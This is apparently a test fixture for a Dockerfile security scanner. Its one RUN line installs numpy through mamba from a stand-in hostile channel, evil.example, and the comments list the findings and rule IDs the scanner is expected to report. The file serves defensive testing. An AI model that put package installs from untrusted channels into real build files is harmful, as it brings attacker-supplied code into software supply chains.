FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN mamba install --channel https://evil.example/conda numpy=1.26
USER app
# expect: package-install 2 high "from https://evil.example/conda"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR201-bd37269bcc VR501-e064bac1a6
